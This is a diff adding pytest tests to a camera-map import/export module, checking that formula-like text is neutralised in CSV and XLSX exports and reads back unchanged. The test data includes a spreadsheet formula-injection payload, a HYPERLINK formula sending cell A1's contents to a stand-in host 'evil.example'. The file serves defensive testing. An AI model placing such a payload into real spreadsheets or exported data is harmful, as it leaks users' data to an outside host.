@@ -5,13 +5,17 @@ written, nothing crashed."""
 
 from __future__ import annotations
 
+import csv
+import io
 import textwrap
 from pathlib import Path
 
+import openpyxl
 import pytest
 from sqlalchemy import func, select
 
 from app.cameras import checklists, map_import, registry
+from app.cameras.map_model import CameraMapData, WatchPosition
 from app.cameras.registry import seed_demo_cameras
 from app.db.models import Camera
 from app.errors import ImportFileError, ValidationError
@@ -180,3 +184,40 @@ def test_an_account_name_too_long_for_its_column_is_refused(ctx, users):
         ctx.accounts.create_user(users["admin"], "u" * 81, "Người mới", "mat-khau-du-dai",
                                  ["officer"])
     assert "username" in err.value.message() and "80" in err.value.message()
+
+
+# -- formula text exported as given ----------------------------------------------------------
+FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+1+1", "-2+3",
+            "@SUM(A1:A9)")
+
+
+def _formula_map() -> CameraMapData:
+    positions = tuple(WatchPosition("DV-CAM-04", f"P{i}", text, scanner=text)
+                      for i, text in enumerate(FORMULAS, start=1))
+    return CameraMapData(positions, ())
+
+
+def test_formulas_are_neutralised_in_the_csv_export_and_read_back_as_given():
+    raw = map_import.export_csv(_formula_map())
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"))))
+    for row in rows:
+        for key in ("name", "scanner"):
+            assert row[key].startswith("'") and row[key][1:] in FORMULAS
+    back = map_import.validate(map_import.parse_csv_bytes(raw, "export.csv"),
+                               {"DV-CAM-04": "fixed"})
+    assert [(p.name, p.scanner) for p in back.positions] == [(f, f) for f in FORMULAS]
+
+
+def test_formulas_are_text_cells_in_the_xlsx_export_and_read_back_as_given():
+    raw = map_import.export_xlsx(_formula_map())
+    book = openpyxl.load_workbook(io.BytesIO(raw))
+    ws = book["positions"]
+    header = [c.value for c in ws[1]]
+    for row in ws.iter_rows(min_row=2):
+        for key in ("name", "scanner"):
+            cell = row[header.index(key)]
+            assert cell.data_type == "s" and cell.value in FORMULAS  # text, not a formula
+            assert cell.quotePrefix                                  # Excel shows it as text
+    back = map_import.validate(map_import.parse_xlsx_bytes(raw, "export.xlsx"),
+                               {"DV-CAM-04": "fixed"})
+    assert [(p.name, p.scanner) for p in back.positions] == [(f, f) for f in FORMULAS]
